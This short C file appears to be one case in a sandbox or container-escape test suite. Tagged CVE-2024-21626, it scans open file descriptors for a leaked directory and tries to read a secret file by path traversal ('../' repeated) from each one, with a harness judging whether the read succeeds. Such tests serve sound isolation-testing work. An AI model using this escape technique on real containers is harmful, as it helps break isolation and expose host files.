// attack: leave the root through a directory that an ancestor left open, by its parents
// group: A
// source: CVE-2024-21626
// layer: descriptors
// outside: as any user
// needs: now
// given: descriptors
// arguments: {secret}
#include "../attack.h"

int main(int argc, char **argv) {
  char path[4096];
  snprintf(path, sizeof path, "../../../../../../../..%s", argument(argc, argv, 1, "secret"));
  for (int fd = 0; fd < 4096; fd++) {
    struct stat status;
    if (fstat(fd, &status) == 0 && S_ISDIR(status.st_mode)) {
      judge_read(fd, path);
    }
  }
  denied_because("no open descriptor is a directory");
}
